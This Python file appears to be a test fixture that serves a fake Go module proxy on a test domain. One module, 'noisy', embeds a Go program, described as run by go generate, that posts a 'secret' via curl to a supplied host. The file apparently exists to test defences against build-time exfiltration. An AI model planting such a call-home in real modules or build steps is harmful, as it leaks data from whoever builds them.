"""A proxy of Go modules: lists of versions, their descriptions, go.mod files and archives."""

import json

from .archives import zipped

DOMAIN = "modules.example.test"
# Run by go generate: a program of a module, which asks another program to carry the secret out.
_CALLS_HOME = '''package main

import (
	"fmt"
	"os/exec"
)

func main() {
	answer, failure := exec.Command("curl", "-sS", "-o", "/dev/null", "-w", "%%{http_code}", "-d", "secret", "%s").Output()
	fmt.Println(string(answer), failure)
}
'''


def module_files(home):
    """The proxy's files."""
    library = f'package frame\n\nimport _ "{DOMAIN}/panel"\n'
    modules = [("frame", "v1.2.0", [("panel", "v1.1.0")], library), ("panel", "v1.0.0", [], "package panel\n"),
               ("panel", "v1.1.0", [], "package panel\n"), ("noisy", "v1.0.0", [], _CALLS_HOME % home)]
    files, versions = {}, {}
    for name, version, needs, code in modules:
        path = f"{DOMAIN}/{name}"
        manifest = f"module {path}\n\ngo 1.17\n" + "".join(f"\nrequire {DOMAIN}/{one} {at}\n" for one, at in needs)
        top, base = f"{path}@{version}", f"/{path}/@v/{version}"
        info = json.dumps({"Version": version, "Time": "2024-01-01T00:00:00Z"}).encode()
        files[f"{base}.info"] = files[f"/{path}/@latest"] = ("application/json", info)
        files[f"{base}.mod"] = ("text/plain", manifest.encode())
        files[f"{base}.zip"] = ("application/zip", zipped({f"{top}/go.mod": manifest, f"{top}/{name}.go": code}))
        versions.setdefault(path, []).append(version)
    files.update({f"/{path}/@v/list": ("text/plain", "\n".join(listed).encode()) for path, listed in versions.items()})
    return files
